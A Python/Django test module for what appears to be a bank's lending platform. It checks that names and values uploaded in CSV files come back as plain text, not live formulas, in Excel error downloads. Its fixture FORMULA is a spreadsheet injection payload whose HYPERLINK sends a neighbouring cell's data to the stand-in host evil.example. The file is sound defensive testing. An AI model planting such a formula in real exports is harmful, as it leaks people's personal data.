"""What an anchor or a file sent comes back in the bank's downloads as text, never as a live formula."""

import csv
import datetime as dt
import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from core.business_date import business_date_set
from core.files import stored_file_create
from partners.models import HoldingImport
from tests.conftest import api_as
from tests.factories import make_anchor, make_program, resident_id_with_check

HEADER = "姓名,身份证号,手机号,推荐金额,近12个月订单金额,打分卡得分\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"点击查看")'


def _cells(response):
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_an_exported_name_that_looks_like_a_formula_stays_text(users):
    business_date_set(new_date=dt.date(2027, 3, 1), backwards_allowed=True)
    program = make_program(make_anchor(users["manager"], approver=users["approver"]), users["approver"])
    good = resident_id_with_check("51152119700819196")
    content = io.StringIO()
    content.write(HEADER)
    csv.writer(content, lineterminator="\n").writerows(
        [["甲", good, "13812345678", "100000", "300000", "80"], [FORMULA, "123", "13812345678", "1", "1", "1"]]
    )
    upload = api_as(users["manager"]).post(
        f"/api/v1/programs/{program.pk}/batches/",
        {"farmer_list": SimpleUploadedFile("l.csv", content.getvalue().encode())},
        format="multipart",
    )
    assert upload.status_code == 201, upload.json()
    client = Client()
    client.force_login(users["manager"])
    cells = _cells(client.get(f"/batches/{upload.json()['id']}/errors.xlsx"))
    named = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert named and all(cell.data_type == "s" for cell in named)


def test_a_value_sent_in_a_holdings_file_stays_text_in_its_errors_download(users):
    business_date_set(new_date=dt.date(2027, 3, 1), backwards_allowed=True)
    stored = stored_file_create(content=b"x", name="h.csv", uploaded_by=users["leader"])
    record = HoldingImport.objects.create(
        file=stored,
        business_date=dt.date(2027, 3, 1),
        imported_by=users["leader"],
        rows_total=1,
        rows_refused=1,
        errors=[{"row": 2, "column": "opened_on", "code": "invalid_date", "detail": "日期无效", "value": FORMULA}],
    )
    client = Client()
    client.force_login(users["leader"])
    cells = _cells(client.get(f"/dashboards/cross-selling/imports/{record.pk}/?export=errors"))
    sent = [cell for cell in cells if cell.value == FORMULA]
    assert sent and sent[0].data_type == "s"
